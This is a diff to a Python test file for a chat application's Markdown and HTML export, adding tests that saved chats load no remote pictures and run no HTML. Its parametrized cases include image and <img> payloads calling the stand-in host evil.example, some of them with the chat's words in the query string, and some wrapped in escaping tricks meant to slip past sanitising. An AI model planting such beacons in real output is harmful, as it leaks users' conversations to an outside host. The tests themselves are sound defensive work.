@@ -8,11 +8,13 @@ from contextlib import closing
 from pathlib import Path
 
 import pytest
+from markdown_it import MarkdownIt
 
 from r1chat.errors import ExportError, NotFoundError
 from r1chat.messages import Provenance, Reply, Timings
 from r1chat.store import Store
 from r1chat.ui.document import write_document
+from r1chat.ui.html.unloaded import unloaded
 from r1chat.ui.words.page import Words
 
 THOUGHT = (
@@ -57,6 +59,7 @@ def test_a_page_of_its_own_has_the_thought_folded_its_moments_marked_and_formula
     assert 'class="notice' in page  # the reply ran into its limit
     assert not re.search(r"<script|<img|<link|<[a-z][^>]*\ssrc=|@import|url\(|<[a-z][^>]*\son[a-z]+=", page)
     assert "default-src 'none'" in page
+    assert '<meta http-equiv="x-dns-prefetch-control" content="off">' in page.partition("</head>")[0]
     assert page.count("<details") == page.count("</details>") == 1
 
 
@@ -65,8 +68,8 @@ def test_markdown_keeps_the_words_as_they_are_and_folds_the_thought(
 ) -> None:
     write_document(store, conversation, tmp_path / "chat.md", Words("zh"))
     text = (tmp_path / "chat.md").read_text(encoding="utf-8")
-    assert text.startswith("# Sums <b>& more</b>\n\n## 你 · 20")
-    assert ANSWER in text
+    assert text.startswith("# Sums &lt;b>& more&lt;/b>\n\n## 你 · 20")
+    assert ANSWER.replace("<img", "&lt;img") in text
     fold = text.partition("<details>")[2].partition("</details>")[0]
     assert "Wait, 7 + 3 carries" in fold
     assert "alert(1)" in fold  # the thought did not end its fold
@@ -82,3 +85,53 @@ def test_another_ending_or_another_conversation_is_a_sentence_and_makes_no_file(
     with pytest.raises(NotFoundError):
         write_document(store, "0" * 32, tmp_path / "chat.md", Words("en"))
     assert [path.name for path in tmp_path.iterdir() if path.name.startswith("chat")] == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](http://evil.example/?words)",
+        "!![](http://evil.example/?words)",
+        "\\\\![x](http://evil.example/?words)",
+        "![x][1]\n\n[1]: http://evil.example/?words",
+        "a <img src='http://evil.example/'> b",
+        "\\\\<img src='http://evil.example/'>",
+        "<div style='background:url(http://evil.example/)'>\n\n</div>",
+        "$`$ `![x](http://evil.example/)`",
+        "$x <img src='http://evil.example/'>$",
+        "| a ` | ![x](http://evil.example/) ` |\n|---|---|",
+        "- a ` b\n- ![x](http://evil.example/) ` c",
+        "`a\n![x](http://evil.example/) ` b",
+        "`` ` `` ![x](http://evil.example/) `",
+        "[^1]: a\n\n    ![x](http://evil.example/)",
+        "> ```\n![x](http://evil.example/)",
+    ],
+)
+def test_saved_markdown_loads_no_picture_and_runs_no_html(store: Store, tmp_path: Path, text: str) -> None:
+    info = store.new_conversation("x")
+    turn = store.add_turn(info.id, "```\nopen", None)
+    reply = store.add_reply(turn.id, Provenance("ollama", model="m"), Reply(text, True, text, "stop"))
+    store.add_turn(info.id, text, reply.id)
+    write_document(store, info.id, tmp_path / "chat.md", Words("en"))
+    saved = (tmp_path / "chat.md").read_text(encoding="utf-8")
+    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(saved)
+    inner = [child for token in tokens for child in (token, *(token.children or []))]
+    assert not [token for token in inner if token.type == "image"]
+    html = [token.content for token in inner if token.type.startswith("html")]
+    assert all(re.fullmatch(r"</?details>\s*(<summary>[^<]*</summary>\s*)?", one) for one in html)
+    assert "evil.example" not in "".join(token.content for token in tokens if token.type == "fence")
+    outside = re.sub(r"(?m)^</?details>$|^<summary>.*</summary>$", "", saved)
+    assert not re.search(r"(?<!\\)!\[|<[a-z/]", outside)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "```html\n<img src=x>\n![x](y)\n```",
+        "1. One\n\n   ```md\n   ![x](y)\n   ```\n\nSee `<br>` and `![x](y)`.",
+        "a < b, <https://example.org> and 3! [x](y)\n\n~~~\n<b>\n~~~\n",
+        "\\\\![x](y) is no picture; $a < b$; é&lt;",
+    ],
+)
+def test_code_and_ordinary_text_of_saved_markdown_stay_as_they_are(text: str) -> None:
+    assert unloaded(text.replace("\\\\", "\\")) == text.replace("\\\\", "\\")
